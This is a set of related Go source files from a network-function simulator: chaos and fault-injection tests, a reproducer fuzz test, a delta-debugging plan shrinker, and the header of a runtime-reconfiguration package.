		{At: 1 * ms, Kind: fault.DeviceHang, Device: 0},
	}}
	shrunk, _ := Shrink(minimal, hangPredicate, validForProfile, 100)
	if len(shrunk.Events) != 1 || shrunk.Events[0] != minimal.Events[0] {
		t.Fatalf("minimal plan is not a fixed point: %v", shrunk.Events)
	}
}

func TestShrinkHalvesMagnitudes(t *testing.T) {
	// Predicate: any slowdown with kernel factor > 2 (so halving 8 → 4.5 →
	// 2.75 … should stop at the last value above 2).
	pred := func(p *fault.Plan) bool {
		for _, ev := range p.Events {
			if ev.Kind == fault.DeviceSlowdown && ev.KernelFactor > 2 {
				return true
			}
		}
		return false
	}
	plan := &fault.Plan{Events: []fault.Event{
		{At: 1 * ms, Kind: fault.DeviceSlowdown, Device: 0, KernelFactor: 8, CopyFactor: 8},
	}}
	shrunk, _ := Shrink(plan, pred, validForProfile, 100)
	got := shrunk.Events[0].KernelFactor
	if got >= 8 || got <= 2 {
		t.Fatalf("factor not shrunk toward the threshold: %v", got)
	}
}

func TestShrinkRespectsBudget(t *testing.T) {
	calls := 0
	pred := func(p *fault.Plan) bool { calls++; return hangPredicate(p) }
	noisy := &fault.Plan{Events: []fault.Event{
		{At: 1 * ms, Kind: fault.DeviceHang, Device: 0},
		{At: 500 * simtime.Microsecond, Kind: fault.RateBurst, RateFactor: 2},
		{At: 700 * simtime.Microsecond, Kind: fault.RateBurst, RateFactor: 1},
	}}
	_, runs := Shrink(noisy, pred, validForProfile, 3)
	if runs > 3 || calls > 3 {
		t.Fatalf("budget exceeded: runs %d, calls %d", runs, calls)
	}
}

// --- reproducers ---

func TestReproRoundTrip(t *testing.T) {
	c := Case{
		App: "ipsec", Seed: 17, TaskTimeout: -1,
		Plan: &fault.Plan{Events: []fault.Event{
			{At: 1 * ms, Kind: fault.DeviceHang, Device: 0},
			{At: 2 * ms, Kind: fault.RxQueueDown, Port: 1, Queue: -1},
			{At: 2500 * simtime.Microsecond, Kind: fault.DeviceSlowdown, Device: 0, KernelFactor: 2.5, CopyFactor: 1.5},
		}},
	}
	path := filepath.Join(t.TempDir(), "repro.json")
	if err := WriteRepro(path, c); err != nil {
		t.Fatal(err)
	}
	got, err := ReadRepro(path)
	if err != nil {
		t.Fatal(err)
	}
	if got.App != c.App || got.Seed != c.Seed || got.TaskTimeout != c.TaskTimeout {
		t.Fatalf("header mismatch: %+v", got)
	}
	if len(got.Plan.Events) != len(c.Plan.Events) {
		t.Fatalf("event count mismatch: %d vs %d", len(got.Plan.Events), len(c.Plan.Events))
	}
	for i := range c.Plan.Events {
		if got.Plan.Events[i] != c.Plan.Events[i] {
			t.Fatalf("event %d mismatch: %+v vs %+v", i, got.Plan.Events[i], c.Plan.Events[i])
		}
	}
}

// --- reconfig churn cases ---

// TestOracleCleanUnderRandomReconfig: random control-plane churn (admits,
// evicts, retunes, hot-plug, resizes) over co-resident tenant mixes must
// pass every invariant — including the epoch conservation and orphaned-lane
// checks — and reproduce digests across the doubled runs.
func TestOracleCleanUnderRandomReconfig(t *testing.T) {
	for seed := uint64(20); seed < 24; seed++ {
		c := RandomReconfigCase([]string{"ipv4", "ids"}, []string{"ipv6"}, seed)
		out, err := RunTwice(c)
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if out.Failed() {
			t.Errorf("seed %d violated invariants under fault %v + reconfig %v: %v",
				seed, c.Plan.Events, c.Reconfig.Events, out.Violations)
		}
	}
}

// evictPredicate is the synthetic failure oracle for reconfig shrinking: a
// plan "fails" iff it ever evicts tenant t0-ipv4.
func evictPredicate(p *reconfig.Plan) bool {
	for _, ev := range p.Events {
		if ev.Kind == reconfig.TenantEvict && ev.Tenant == "t0-ipv4" {
			return true
		}
	}
	return false
}

func TestShrinkReconfigToMinimal(t *testing.T) {
	prof := ReconfigProfile([]string{"ipv4", "ids"}, []string{"ipv6"})
	valid := func(p *reconfig.Plan) bool {
		return p.Validate(prof.Initial, prof.Latent, prof.Devices, prof.Ports) == nil
	}
	// The triggering evict buried under an admit+evict lifecycle, a retune,
	// a device bounce and a resize. The latent lifecycle's single removals
	// are invalid (evict without admit), so only the pair removal strips it.
	noisy := &reconfig.Plan{Events: []reconfig.Event{
		{At: 200 * simtime.Microsecond, Kind: reconfig.TenantAdmit, Tenant: "l0-ipv6"},
		{At: 400 * simtime.Microsecond, Kind: reconfig.ShareRetune, Tenant: "t1-ids", Share: 2},
		{At: 600 * simtime.Microsecond, Kind: reconfig.DeviceUnplug, Device: 0},
		{At: 800 * simtime.Microsecond, Kind: reconfig.DevicePlug, Device: 0},
		{At: 1 * ms, Kind: reconfig.TenantEvict, Tenant: "t0-ipv4"},
		{At: 1200 * simtime.Microsecond, Kind: reconfig.TenantEvict, Tenant: "l0-ipv6"},
		{At: 1400 * simtime.Microsecond, Kind: reconfig.QueueResize, Port: 0, Capacity: 64},
	}}
	if !evictPredicate(noisy) || !valid(noisy) {
		t.Fatal("noisy plan must start failing and valid")
	}
	shrunk, runs := ShrinkReconfig(noisy, evictPredicate, valid, 200)
	if len(shrunk.Events) != 1 {
		t.Fatalf("shrunk to %d events, want 1: %v (%d runs)", len(shrunk.Events), shrunk.Events, runs)
	}
	if !evictPredicate(shrunk) || !valid(shrunk) {
		t.Fatalf("shrunk plan broken: %v", shrunk.Events)
	}
}

func TestReconfigReproRoundTrip(t *testing.T) {
	c := RandomReconfigCase([]string{"ipsec", "ipv6"}, []string{"ids"}, 31)
	if len(c.Reconfig.Events) == 0 {
		t.Fatal("seed 31 generated no reconfig events; pick another seed")
	}
	path := filepath.Join(t.TempDir(), "repro.json")
	if err := WriteRepro(path, c); err != nil {
		t.Fatal(err)
	}
	got, err := ReadRepro(path)
	if err != nil {
		t.Fatal(err)
	}
	if got.Label() != c.Label() || got.Seed != c.Seed {
		t.Fatalf("header mismatch: %+v", got)
	}
	if len(got.Latent) != len(c.Latent) || got.Latent[0] != c.Latent[0] {
		t.Fatalf("latent pool mismatch: %v vs %v", got.Latent, c.Latent)
	}
	if len(got.Reconfig.Events) != len(c.Reconfig.Events) {
		t.Fatalf("reconfig event count mismatch: %d vs %d", len(got.Reconfig.Events), len(c.Reconfig.Events))
	}
	for i := range c.Reconfig.Events {
		if got.Reconfig.Events[i] != c.Reconfig.Events[i] {
			t.Fatalf("reconfig event %d mismatch: %+v vs %+v", i, got.Reconfig.Events[i], c.Reconfig.Events[i])
		}
	}
	// The round-tripped case replays to the identical digest.
	a, err := Run(c)
	if err != nil {
		t.Fatal(err)
	}
	b, err := Run(got)
	if err != nil {
		t.Fatal(err)
	}
	if !sameDigests(a, b) {
		t.Fatal("round-tripped reconfig case replays to a different digest")
	}
}

// TestReconfigSweepCleanAndDeterministic: a small armed sweep must be clean
// and reproduce its combined digest, serially and in parallel.
func TestReconfigSweepCleanAndDeterministic(t *testing.T) {
	opts := SweepOptions{Seeds: 3, BaseSeed: 40, Reconfig: true}
	a, err := Sweep(opts)
	if err != nil {
		t.Fatal(err)
	}
	if a.Cases != 3 {
		t.Fatalf("ran %d cases, want 3", a.Cases)
	}
	for _, f := range a.Failures {
		t.Errorf("case %s/%d failed: %v (fault %v, reconfig %v)", f.Case.Label(), f.Case.Seed,
			f.Outcome.Violations, f.Case.Plan.Events, f.Case.Reconfig.Events)
	}
	opts.Parallelism = 4
	b, err := Sweep(opts)
	if err != nil {
		t.Fatal(err)
	}
	if a.Digest != b.Digest {
		t.Fatalf("reconfig sweep digest not reproducible across parallelism: %s vs %s", a.Digest, b.Digest)
	}
}

// --- the end-to-end seeded-bug demonstration ---

// TestSeededBugShrinksToMinimalRepro seeds a genuine bug configuration —
// the rescue timeout disabled while a device hangs and never recovers — in
// a noisy plan, confirms the oracle catches the stuck drain, shrinks the
// plan with real runs, and verifies the written reproducer replays to the
// same violation.
func TestSeededBugShrinksToMinimalRepro(t *testing.T) {
	if testing.Short() {
		t.Skip("stuck-drain runs pay the full watchdog grace window")
	}
	noisy := &fault.Plan{Events: []fault.Event{
		{At: 400 * simtime.Microsecond, Kind: fault.RateBurst, RateFactor: 2},
		{At: 900 * simtime.Microsecond, Kind: fault.RateBurst, RateFactor: 1},
		{At: 1 * ms, Kind: fault.DeviceHang, Device: 0},
		{At: 1400 * simtime.Microsecond, Kind: fault.RxQueueDown, Port: 0, Queue: 1},
		{At: 1800 * simtime.Microsecond, Kind: fault.RxQueueUp, Port: 0, Queue: 1},
	}}
	bug := Case{App: "ipv4", Seed: 5, Plan: noisy, TaskTimeout: -1}

	out, err := RunTwice(bug)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Failed() {
		t.Fatal("seeded bug produced no violation")
	}
	sawStuck := false
	for _, v := range out.Violations {
		if v.Check == invariant.CheckDrainStuck {
			sawStuck = true
		}
	}
	if !sawStuck {
		t.Fatalf("expected a drain.stuck violation, got %v", out.Violations)
	}

	stillFails := func(p *fault.Plan) bool {
		o, err := Run(Case{App: bug.App, Seed: bug.Seed, Plan: p, TaskTimeout: bug.TaskTimeout})
		return err == nil && o.Failed()
	}
	shrunk, runs := Shrink(noisy, stillFails, validForProfile, 40)
	if len(shrunk.Events) > 2 {
		t.Fatalf("shrunk to %d events, want <= 2: %v (%d runs)", len(shrunk.Events), shrunk.Events, runs)
	}
	hasHang := false
	for _, ev := range shrunk.Events {
		if ev.Kind == fault.DeviceHang {
			hasHang = true
		}
	}
	if !hasHang {
		t.Fatalf("shrunk plan lost the triggering hang: %v", shrunk.Events)
	}

	// The reproducer file replays to the same violation.
	path := filepath.Join(t.TempDir(), "repro.json")
	minimal := Case{App: bug.App, Seed: bug.Seed, Plan: shrunk, TaskTimeout: bug.TaskTimeout}
	if err := WriteRepro(path, minimal); err != nil {
		t.Fatal(err)
	}
	replayed, err := ReadRepro(path)
	if err != nil {
		t.Fatal(err)
	}
	ro, err := Run(replayed)
	if err != nil {
		t.Fatal(err)
	}
	if !ro.Failed() {
		t.Fatal("replayed reproducer no longer fails")
	}
	t.Logf("shrunk %d -> %d events in %d probe runs", len(noisy.Events), len(shrunk.Events), runs)
}

// --- sweep ---

func TestSweepCleanAndDeterministic(t *testing.T) {
	opts := SweepOptions{Apps: []string{"ipv4", "ids"}, Seeds: 2, BaseSeed: 100}
	a, err := Sweep(opts)
	if err != nil {
		t.Fatal(err)
	}
	if a.Cases != 4 {
		t.Fatalf("ran %d cases, want 4", a.Cases)
	}
	if len(a.Failures) != 0 {
		for _, f := range a.Failures {
			t.Errorf("case %s/%d failed: %v (plan %v)", f.Case.App, f.Case.Seed, f.Outcome.Violations, f.Case.Plan.Events)
		}
		t.Fatal("sweep found violations on the shipped tree")
	}
	b, err := Sweep(opts)
	if err != nil {
		t.Fatal(err)
	}
	if a.Digest != b.Digest {
		t.Fatalf("sweep digest not reproducible: %s vs %s", a.Digest, b.Digest)
	}
}

// TestSweepParallelEquivalence is the tentpole contract: the same sweep at
// parallelism 1, 2 and 8 produces byte-identical per-case digests and the
// identical combined digest — the parallel runner must be unobservable in
// every output.
func TestSweepParallelEquivalence(t *testing.T) {
	opts := SweepOptions{Apps: []string{"ipv4", "ids"}, Seeds: 2, BaseSeed: 100, Parallelism: 1}
	serial, err := Sweep(opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(serial.CaseDigests) != serial.Cases {
		t.Fatalf("%d case digests for %d cases", len(serial.CaseDigests), serial.Cases)
	}
	for _, parallelism := range []int{2, 8} {
		opts.Parallelism = parallelism
		par, err := Sweep(opts)
		if err != nil {
			t.Fatalf("parallelism %d: %v", parallelism, err)
		}
		if par.Digest != serial.Digest {
			t.Errorf("parallelism %d: combined digest diverged:\nserial   %s\nparallel %s",
				parallelism, serial.Digest, par.Digest)
		}
		for i, d := range par.CaseDigests {
			if d != serial.CaseDigests[i] {
				t.Errorf("parallelism %d: case %d diverged:\nserial   %s\nparallel %s",
					parallelism, i, serial.CaseDigests[i], d)
			}
		}
		if par.Cases != serial.Cases || len(par.Failures) != len(serial.Failures) {
			t.Errorf("parallelism %d: cases %d/%d failures %d/%d", parallelism,
				par.Cases, serial.Cases, len(par.Failures), len(serial.Failures))
		}
	}
}

// TestSweepParallelStress hammers the parallel sweep under the race detector
// (scripts/check.sh runs the package with -race): many concurrent full
// simulator cases sharing nothing but the process-wide immutable caches.
func TestSweepParallelStress(t *testing.T) {
	if testing.Short() {
		t.Skip("parallel stress is for the -race gate")
	}
	res, err := Sweep(SweepOptions{Apps: Apps, Seeds: 2, BaseSeed: 1, Parallelism: 8})
	if err != nil {
		t.Fatal(err)
	}
	if res.Cases != 2*len(Apps) {
		t.Fatalf("ran %d cases, want %d", res.Cases, 2*len(Apps))
	}
	for _, f := range res.Failures {
		t.Errorf("case %s/%d failed: %v", f.Case.App, f.Case.Seed, f.Outcome.Violations)
	}
}

// --- corruption / integrity ---

// TestCorruptionQuarantineClean: a seeded corruption window with sentinel
// sampling armed (the sweep default) must be contained — mismatches detected,
// packets quarantined, no invariant violation — and byte-identical across
// the RunTwice digest cross-check.
func TestCorruptionQuarantineClean(t *testing.T) {
	c := Case{
		App: "ipv4", Seed: 7,
		Plan: fault.Corruption(500*simtime.Microsecond, 2*ms, 0, 0.6, 0xa5),
	}
	out, err := RunTwice(c)
	if err != nil {
		t.Fatal(err)
	}
	if out.Failed() {
		t.Fatalf("armed corruption run violated invariants: %v", out.Violations)
	}
	if out.Report.CorruptionDetected == 0 {
		t.Fatal("sentinel detected no corruption under a 0.6-probability window")
	}
	if out.Report.QuarantinedPackets == 0 {
		t.Fatal("no packets quarantined despite detected corruption")
	}
}

// TestCorruptionLeakCaughtAndShrinks seeds the corruption-leak bug: the same
// corruption window with sentinel sampling disarmed, so tainted packets reach
// TX. The corrupt.leak oracle must catch it, the shrinker must reduce the
// noisy plan while keeping the corruption window, and the written reproducer
// must replay to the same violation with DisarmSampling preserved.
func TestCorruptionLeakCaughtAndShrinks(t *testing.T) {
	noisy := &fault.Plan{Events: []fault.Event{
		{At: 300 * simtime.Microsecond, Kind: fault.RateBurst, RateFactor: 2},
		{At: 700 * simtime.Microsecond, Kind: fault.RateBurst, RateFactor: 1},
		{At: 500 * simtime.Microsecond, Kind: fault.DeviceCorrupt, Device: 0, CorruptProb: 0.6, FlipPattern: 0xa5},
		{At: 2 * ms, Kind: fault.CorruptRecover, Device: 0},
		{At: 1 * ms, Kind: fault.RxQueueDown, Port: 1, Queue: 0},
		{At: 1400 * simtime.Microsecond, Kind: fault.RxQueueUp, Port: 1, Queue: 0},
	}}
	bug := Case{App: "ipv4", Seed: 7, Plan: noisy, DisarmSampling: true}

	out, err := RunTwice(bug)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Failed() {
		t.Fatal("disarmed corruption run produced no violation")
	}
	sawLeak := false
	for _, v := range out.Violations {
		if v.Check == invariant.CheckCorruptLeak {
			sawLeak = true
		}
	}
	if !sawLeak {
		t.Fatalf("expected a corrupt.leak violation, got %v", out.Violations)
	}

	stillFails := func(p *fault.Plan) bool {
		o, err := Run(Case{App: bug.App, Seed: bug.Seed, Plan: p, DisarmSampling: true})
		return err == nil && o.Failed()
	}
	shrunk, runs := Shrink(noisy, stillFails, validForProfile, 40)
	if len(shrunk.Events) > 2 {
		t.Fatalf("shrunk to %d events, want <= 2: %v (%d runs)", len(shrunk.Events), shrunk.Events, runs)
	}
	hasCorrupt := false
	for _, ev := range shrunk.Events {
		if ev.Kind == fault.DeviceCorrupt {
			hasCorrupt = true
		}
	}
	if !hasCorrupt {
		t.Fatalf("shrunk plan lost the corruption window: %v", shrunk.Events)
	}

	path := filepath.Join(t.TempDir(), "repro.json")
	minimal := Case{App: bug.App, Seed: bug.Seed, Plan: shrunk, DisarmSampling: true}
	if err := WriteRepro(path, minimal); err != nil {
		t.Fatal(err)
	}
	replayed, err := ReadRepro(path)
	if err != nil {
		t.Fatal(err)
	}
	if !replayed.DisarmSampling {
		t.Fatal("reproducer lost DisarmSampling")
	}
	ro, err := Run(replayed)
	if err != nil {
		t.Fatal(err)
	}
	if !ro.Failed() {
		t.Fatal("replayed reproducer no longer fails")
	}
	t.Logf("shrunk %d -> %d events in %d probe runs", len(noisy.Events), len(shrunk.Events), runs)
}
