package chaos

import (
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"nba/internal/fault"
	"nba/internal/simtime"
)

// FuzzReproRoundTrip fuzzes the reproducer file format: any bytes ReadRepro
// accepts must survive WriteRepro -> ReadRepro as a fixed point (same case,
// same plan, same flags), and plan validity must be stable across the round
// trip. Rejected inputs must only error, never panic — reproducers come from
// bug reports, not from this tree.
func FuzzReproRoundTrip(f *testing.F) {
	seedCase := func(c Case) {
		dir, err := os.MkdirTemp("", "nbafuzzseed")
		if err != nil {
			f.Fatal(err)
		}
		defer os.RemoveAll(dir)
		path := filepath.Join(dir, "repro.json")
		if err := WriteRepro(path, c); err != nil {
			f.Fatal(err)
		}
		data, err := os.ReadFile(path)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	seedCase(Case{App: "ipv4", Seed: 3, Plan: &fault.Plan{}})
	seedCase(Case{
		App: "ipsec", Seed: 17, TaskTimeout: -1,
		Plan:           fault.Corruption(300*simtime.Microsecond, 2*simtime.Millisecond, 0, 0.5, 0xa5),
		DisarmSampling: true,
	})
	f.Add([]byte(`{"app":"ipv4","seed":1,"events":[{"at_ps":1,"kind":"device.explode"}]}`))
	f.Add([]byte(`{not json`))

	f.Fuzz(func(t *testing.T, data []byte) {
		dir := t.TempDir()
		in := filepath.Join(dir, "in.json")
		if err := os.WriteFile(in, data, 0o644); err != nil {
			t.Fatal(err)
		}
		c, err := ReadRepro(in)
		if err != nil {
			return // rejected input: fine, as long as it never panics
		}
		out := filepath.Join(dir, "out.json")
		if err := WriteRepro(out, c); err != nil {
			t.Fatalf("write of accepted case failed: %v", err)
		}
		c2, err := ReadRepro(out)
		if err != nil {
			t.Fatalf("re-read of written repro failed: %v", err)
		}
		if !reflect.DeepEqual(c, c2) {
			t.Fatalf("round trip not a fixed point:\n%+v\nvs\n%+v", c, c2)
		}
		prof := Profile()
		e1 := c.Plan.Validate(prof.Devices, prof.Ports, prof.Queues)
		e2 := c2.Plan.Validate(prof.Devices, prof.Ports, prof.Queues)
		if (e1 == nil) != (e2 == nil) {
			t.Fatalf("plan validity changed across round trip: %v vs %v", e1, e2)
		}
	})
}
