package chaos

import (
	"nba/internal/fault"
	"nba/internal/reconfig"
	"nba/internal/simtime"
)

// shrinkGrid quantises shrunk event times, matching fault.RandomPlan's
// generation grid so reproducers stay tidy.
const shrinkGrid = 10 * simtime.Microsecond

// Shrink reduces a failing fault plan to a minimal reproducer by greedy
// delta debugging: candidate transformations are tried in a fixed order
// (single event removal, same-target pair removal, factor halving toward
// nominal, fault-window halving) and any candidate that still fails
// restarts the scan. The result is a fixed point: no single transformation
// both keeps the plan valid and keeps it failing.
//
// stillFails must re-run the case with the candidate plan and report
// whether it still violates an invariant; valid gates candidates on
// Plan.Validate for the run's topology. maxRuns bounds the number of
// stillFails calls (shrinking is search, and each probe is a full run); the
// best plan found so far is returned when the budget runs out, along with
// the number of probes spent.
func Shrink(plan *fault.Plan, stillFails func(*fault.Plan) bool, valid func(*fault.Plan) bool, maxRuns int) (*fault.Plan, int) {
	cur := clonePlan(plan)
	runs := 0
	try := func(cand *fault.Plan) bool {
		if runs >= maxRuns || !valid(cand) {
			return false
		}
		runs++
		return stillFails(cand)
	}

	for {
		if cand, ok := shrinkOnce(cur, try); ok {
			cur = cand
			continue
		}
		return cur, runs
	}
}

// shrinkOnce tries every candidate transformation of cur in deterministic
// order, returning the first one that still fails.
func shrinkOnce(cur *fault.Plan, try func(*fault.Plan) bool) (*fault.Plan, bool) {
	// 1. Remove a single event. Scanning from the end first tends to strip
	// trailing recovery events (whose windows then extend to the horizon)
	// before touching the fault that matters.
	for i := len(cur.Events) - 1; i >= 0; i-- {
		if cand := removeEvents(cur, i, -1); try(cand) {
			return cand, true
		}
	}
	// 2. Remove a same-target pair (a whole fault window at once: the
	// single removals above may both fail while removing the pair works,
	// e.g. dropping an unrelated fail+recover window whose recover alone
	// would make the plan invalid).
	for i := 0; i < len(cur.Events); i++ {
		for j := i + 1; j < len(cur.Events); j++ {
			if !sameTarget(cur.Events[i], cur.Events[j]) {
				continue
			}
			if cand := removeEvents(cur, i, j); try(cand) {
				return cand, true
			}
		}
	}
	// 3. Halve fault magnitudes toward nominal (factor 1).
	for i, ev := range cur.Events {
		switch ev.Kind {
		case fault.DeviceSlowdown:
			k, kok := halveFactor(ev.KernelFactor)
			c, cok := halveFactor(ev.CopyFactor)
			if !kok && !cok {
				continue
			}
			cand := clonePlan(cur)
			cand.Events[i].KernelFactor = k
			cand.Events[i].CopyFactor = c
			if try(cand) {
				return cand, true
			}
		case fault.RateBurst:
			f, ok := halveFactor(ev.RateFactor)
			if !ok {
				continue
			}
			cand := clonePlan(cur)
			cand.Events[i].RateFactor = f
			if try(cand) {
				return cand, true
			}
		case fault.DeviceCorrupt:
			// Halve the corruption probability toward zero (the validator
			// rejects 0, so the halving bottoms out on its own).
			if ev.CorruptProb <= 0.05 {
				continue
			}
			cand := clonePlan(cur)
			cand.Events[i].CorruptProb = ev.CorruptProb / 2
			if try(cand) {
				return cand, true
			}
		}
	}
	// 4. Halve fault windows: move each closing event halfway toward its
	// opener.
	for i, ev := range cur.Events {
		if !closesWindow(ev) {
			continue
		}
		j := openerOf(cur, i)
		if j < 0 {
			continue
		}
		mid := midpoint(cur.Events[j].At, ev.At)
		if mid <= cur.Events[j].At || mid >= ev.At {
			continue
		}
		cand := clonePlan(cur)
		cand.Events[i].At = mid
		if try(cand) {
			return cand, true
		}
	}
	return nil, false
}

// ShrinkReconfig reduces a failing reconfiguration plan the same way Shrink
// reduces a fault plan: greedy delta debugging over candidate
// transformations (single event removal, then same-target pair removal —
// an admit+evict of one tenant or an unplug+plug of one device, whose
// single removals the timeline validator rejects), restarting the scan on
// every success until a fixed point or the probe budget runs out.
func ShrinkReconfig(plan *reconfig.Plan, stillFails func(*reconfig.Plan) bool, valid func(*reconfig.Plan) bool, maxRuns int) (*reconfig.Plan, int) {
	cur := cloneReconfigPlan(plan)
	runs := 0
	try := func(cand *reconfig.Plan) bool {
		if runs >= maxRuns || !valid(cand) {
			return false
		}
		runs++
		return stillFails(cand)
	}

	for {
		if cand, ok := shrinkReconfigOnce(cur, try); ok {
			cur = cand
			continue
		}
		return cur, runs
	}
}

func shrinkReconfigOnce(cur *reconfig.Plan, try func(*reconfig.Plan) bool) (*reconfig.Plan, bool) {
	// 1. Remove a single event, scanning from the end (evicts and replugs
	// tend to sit late; stripping them first leaves the opening event whose
	// epoch is usually what matters).
	for i := len(cur.Events) - 1; i >= 0; i-- {
		if cand := removeReconfigEvents(cur, i, -1); try(cand) {
			return cand, true
		}
	}
	// 2. Remove a same-target pair: the lifecycle validator rejects many
	// single removals (an evict without its admit, a plug without its
	// unplug), but dropping the whole pair keeps the timeline legal.
	for i := 0; i < len(cur.Events); i++ {
		for j := i + 1; j < len(cur.Events); j++ {
			if !sameReconfigTarget(cur.Events[i], cur.Events[j]) {
				continue
			}
			if cand := removeReconfigEvents(cur, i, j); try(cand) {
				return cand, true
			}
		}
	}
	return nil, false
}

func cloneReconfigPlan(p *reconfig.Plan) *reconfig.Plan {
	return &reconfig.Plan{Events: append([]reconfig.Event(nil), p.Events...)}
}

func removeReconfigEvents(p *reconfig.Plan, i, j int) *reconfig.Plan {
	out := &reconfig.Plan{Events: make([]reconfig.Event, 0, len(p.Events))}
	for k, ev := range p.Events {
		if k == i || k == j {
			continue
		}
		out.Events = append(out.Events, ev)
	}
	return out
}

// sameReconfigTarget reports whether two reconfig events act on the same
// tenant or device, so removing both plausibly removes one whole lifecycle.
func sameReconfigTarget(a, b reconfig.Event) bool {
	if tenantReconfigKind(a.Kind) && tenantReconfigKind(b.Kind) {
		return a.Tenant == b.Tenant
	}
	if deviceReconfigKind(a.Kind) && deviceReconfigKind(b.Kind) {
		return a.Device == b.Device
	}
	return a.Kind == reconfig.QueueResize && b.Kind == reconfig.QueueResize && a.Port == b.Port
}

func tenantReconfigKind(k reconfig.Kind) bool {
	switch k {
	case reconfig.TenantAdmit, reconfig.TenantEvict, reconfig.ShareRetune:
		return true
	}
	return false
}

func deviceReconfigKind(k reconfig.Kind) bool {
	return k == reconfig.DeviceUnplug || k == reconfig.DevicePlug
}

func clonePlan(p *fault.Plan) *fault.Plan {
	return &fault.Plan{Events: append([]fault.Event(nil), p.Events...)}
}

// removeEvents drops index i (and j, when >= 0) from the plan.
func removeEvents(p *fault.Plan, i, j int) *fault.Plan {
	out := &fault.Plan{Events: make([]fault.Event, 0, len(p.Events))}
	for k, ev := range p.Events {
		if k == i || k == j {
			continue
		}
		out.Events = append(out.Events, ev)
	}
	return out
}

// sameTarget reports whether two events act on the same fault target, so
// removing both plausibly removes one whole fault window.
func sameTarget(a, b fault.Event) bool {
	if deviceKind(a.Kind) && deviceKind(b.Kind) {
		return a.Device == b.Device
	}
	if queueKind(a.Kind) && queueKind(b.Kind) {
		return a.Port == b.Port && a.Queue == b.Queue
	}
	return a.Kind == fault.RateBurst && b.Kind == fault.RateBurst
}

func deviceKind(k fault.Kind) bool {
	switch k {
	case fault.DeviceFail, fault.DeviceRecover, fault.DeviceSlowdown, fault.DeviceHang,
		fault.DeviceCorrupt, fault.CorruptRecover:
		return true
	}
	return false
}

func queueKind(k fault.Kind) bool {
	return k == fault.RxQueueDown || k == fault.RxQueueUp
}

// closesWindow reports whether the event restores capacity taken by an
// earlier event (the end of a fault window).
func closesWindow(ev fault.Event) bool {
	return ev.Kind.IsRecovery() || (ev.Kind == fault.RateBurst && ev.RateFactor == 1)
}

// openerOf finds the latest earlier same-target non-closing event — the
// start of the window that event i closes. Returns -1 when there is none.
func openerOf(p *fault.Plan, i int) int {
	ev := p.Events[i]
	best := -1
	for j, o := range p.Events {
		if j == i || closesWindow(o) || !sameTarget(o, ev) || o.At >= ev.At {
			continue
		}
		if best < 0 || o.At > p.Events[best].At {
			best = j
		}
	}
	return best
}

// halveFactor moves a scaling factor halfway toward nominal (1), on a
// coarse grid; ok is false when it is already within 10% of nominal.
func halveFactor(f float64) (float64, bool) {
	if f == 0 { // "leave unchanged" sentinel, nothing to halve
		return f, false
	}
	next := 1 + (f-1)/2
	if diff := next - f; diff < 0.05 && diff > -0.05 {
		return f, false
	}
	return next, true
}

// midpoint returns the grid-aligned middle of a window.
func midpoint(a, b simtime.Time) simtime.Time {
	m := (a + b) / 2
	return m / shrinkGrid * shrinkGrid
}
