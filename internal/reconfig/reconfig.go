// Package reconfig is the deterministic runtime-reconfiguration control
// plane: scripted timelines of control-plane changes (tenant admit/evict,
// traffic-share retune, device hot-plug/unplug, RX-queue resize) that
// core.System applies to a *running* datapath via an epoch-based
// drain-and-handoff protocol.
//
// A Plan is pure data. Like a fault plan, it is part of a run's identity:
// the same configuration + seed + plan always produce the same trace
// digest, and an empty plan leaves the run byte-identical to an
// unconfigured one. Each event opens an epoch on the virtual clock:
//
//	begin  — quiesce the affected (worker,tenant) lanes or device: stop new
//	         arrivals / submissions, leave in-flight work running.
//	drain  — wait (bounded by DrainGrace) for in-flight aggregates, device
//	         tasks and ring backlogs to empty; at the grace deadline the
//	         remaining tasks are force-rescued through the existing
//	         CPU-fallback path.
//	commit — apply the change (re-split sched.WRR shares and tenant-major
//	         queue maps, re-seat ALB controllers and governors, seal or open
//	         per-tenant digests), then resume.
//
// Epochs are serialized: an event that fires while another epoch is in
// flight defers until that epoch commits, preserving plan order. The
// protocol emits trace.KindReconfigBegin / Drain / Commit events so
// nbatrace shows every epoch next to the datapath's reaction.
package reconfig

import (
	"fmt"
	"sort"

	"nba/internal/simtime"
)

// Kind classifies reconfiguration events.
type Kind uint8

const (
	// TenantAdmit admits the named latent tenant: new lanes, RX queues, an
	// ALB controller and a governor slot are created and shares re-split.
	TenantAdmit Kind = iota
	// TenantEvict drains and removes the named tenant: arrivals stop at
	// begin, the lanes drain (bounded by DrainGrace), the pooled packets
	// return, and the tenant's trace digest is sealed at commit.
	TenantEvict
	// ShareRetune changes the named tenant's traffic share; the WRR split
	// and per-queue arrival rates re-balance at commit.
	ShareRetune
	// DeviceUnplug removes a device from service: new submissions re-route
	// (to another plugged device or the CPU path) at begin, queued tasks
	// drain or are force-rescued, and the socket's ALB controllers re-seat
	// at commit.
	DeviceUnplug
	// DevicePlug returns an unplugged device to service and re-seats the
	// socket's ALB controllers.
	DevicePlug
	// QueueResize re-sizes the RX rings of a port (Port -1 = every port);
	// shrinking head-drops the overflow, exactly like arrival overflow.
	QueueResize

	numKinds
)

var kindNames = [numKinds]string{
	"tenant.admit",
	"tenant.evict",
	"share.retune",
	"device.unplug",
	"device.plug",
	"queue.resize",
}

func (k Kind) String() string {
	if int(k) < len(kindNames) {
		return kindNames[k]
	}
	return "unknown"
}

// KindFromString parses a Kind's String form (reproducer plan files).
func KindFromString(s string) (Kind, error) {
	for i, name := range kindNames {
		if name == s {
			return Kind(i), nil
		}
	}
	return 0, fmt.Errorf("reconfig: unknown kind %q", s)
}

// Event is one scheduled reconfiguration. Only the fields relevant to the
// Kind are read; the rest stay zero.
type Event struct {
	// At is the virtual time the epoch begins.
	At   simtime.Time
	Kind Kind

	// Tenant names the target of tenant events. Admit targets must name a
	// latent tenant from core.Config.LatentTenants; evict and retune
	// targets must name a tenant active at Event.At.
	Tenant string
	// Share is the new traffic share (ShareRetune, required > 0) or an
	// override of the latent tenant's configured share (TenantAdmit,
	// 0 = keep the configured share).
	Share float64

	// Device indexes Topology.Devices (plug/unplug events).
	Device int

	// Port indexes Topology.Ports (QueueResize; -1 targets every port) and
	// Capacity is the new per-ring capacity in packets (required >= 1).
	Port     int
	Capacity int
}

